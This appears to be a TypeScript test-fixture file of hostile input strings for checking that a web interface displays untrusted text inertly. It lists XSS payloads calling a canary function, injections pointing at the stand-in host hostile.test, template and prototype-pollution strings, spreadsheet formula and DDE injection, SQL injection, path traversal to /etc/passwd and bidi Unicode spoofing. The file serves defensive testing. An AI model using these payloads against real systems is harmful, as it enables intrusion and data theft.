// What strangers, vendors and devices may say, and colleagues may type: harmless as text, and nothing else.

/** Every text begins with its number, so that a page can be asked which ones it shows. */
const marked = (texts: readonly string[]): string[] =>
  texts.map((text, at) => `h${String(at).padStart(2, "0")}~${text}`);

/** `hit` is the canary of `watch-page.ts`; hostile.test is nobody's. */
export const MARKUP = marked([
  "<script>hit(1)</script>",
  `"><script>hit(1)</script>`,
  "'><img src=x onerror=hit(1)>",
  "<img src=x onerror=hit(1)>",
  "<svg onload=hit(1)>",
  '<svg><script href="data:text/javascript,hit(1)"/></svg>',
  "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit(1)/>#x">',
  '<math><mi//xlink:href="data:x,<script>hit(1)</script>">',
  `<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>`,
  "<iframe src=javascript:parent.hit(1)></iframe>",
  "<object data=javascript:hit(1)>",
  "<embed src=//hostile.test/x.swf>",
  "<a href=javascript:hit(1)>x</a>",
  "<details open ontoggle=hit(1)>",
  "<input autofocus onfocus=hit(1)>",
  "<body onload=hit(1)>",
  "<video><source onerror=hit(1)></video>",
  "<marquee onstart=hit(1)>",
  "<form action=//hostile.test><button>x",
  "<base href=//hostile.test/>",
  '<meta http-equiv=refresh content="0;url=//hostile.test">',
  "<link rel=stylesheet href=//hostile.test/x.css>",
  "<style>*{display:none!important}</style>",
  "<style>@import'//hostile.test/x.css'</style>",
  "<img src=//hostile.test/beacon.png>",
  "<template><script>hit(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
  "</title><script>hit(1)</script>",
  "</textarea><script>hit(1)</script>",
  "</script><script>hit(1)</script>",
  "--><img src=x onerror=hit(1)>",
  "]]><img src=x onerror=hit(1)>",
  `" onmouseover=hit(1) autofocus onfocus=hit(1) x="`,
  "' autofocus onfocus=hit(1) x='",
  "`-hit(1)-`",
  "';hit(1);//",
  "\\';hit(1);//",
  "\\u003cscript>hit(1)\\u003c/script>",
  "&lt;script&gt;hit(1)&lt;/script&gt;",
  "%3Cscript%3Ehit(1)%3C/script%3E",
  "＜script＞hit(1)＜/script＞",
  "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
]);

/** These count from their first letter: an address, a formula, a name of the language's own. */
export const BARE = [
  "javascript:hit(1)",
  "JaVaScRiPt:hit(1)",
  " javascript:hit(1)",
  "data:text/html,<script>hit(1)</script>",
  "vbscript:hit(1)",
  "//hostile.test/",
  "https://hostile.test/?{}",
  "{{constructor.constructor('hit(1)')()}}",
  `${"$"}{hit(1)}`,
  "{{1337*1337}}",
  "<%= 1337*1337 %>",
  "#{1337*1337}",
  "{name}",
  "{count, plural, one {#} other {#}}",
  "<b>rich</b>{",
  "%s %d %n",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "false",
  "0",
  '=HYPERLINK("//hostile.test","x")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "'; DROP TABLE person; --",
  "../../../../etc/passwd",
  '"}]}',
  "a.b.c",
  ".",
];

/** What moves the text around it, or has no width, no end or no height of its own. */
export const SHAPES = [
  "invoice\u202egnp.exe",
  "\u2067\u2066open isolates \u202b\u202a",
  "\u200f\u200eمرحبا بالعالم",
  `zalgo ${"\u0310\u0489\u0361".repeat(40)}`,
  "zero\u200bwidth\u200d\ufeffjoiners\u00ad",
  "lines\u2028and\u2029paragraphs",
  "👩‍👩‍👧‍👦".repeat(20),
  "ﷺ﷽".repeat(20),
  "\u{1f1e6}\u{e0061}\u{10ffff}",
  "Ω≈ç√∫ \u0007\u001b[31m red",
];

/** One word of 10 kB, and as much with line ends and tabs. */
export const LONG = ["W".repeat(10_240), "line\r\n\tand line ".repeat(680)];

/** The formula again with what a spreadsheet takes for nothing before it. */
const TABBED = "\t=1+1";

export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...BARE, ...SHAPES, TABBED, ...LONG];

/** Those that fit where people type one short line. Marks that turn the writing are refused there. */
export const shortLines = (most: number): string[] =>
  HOSTILE_TEXTS.filter(
    (text) => text.length <= most && !/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u.test(text),
  );
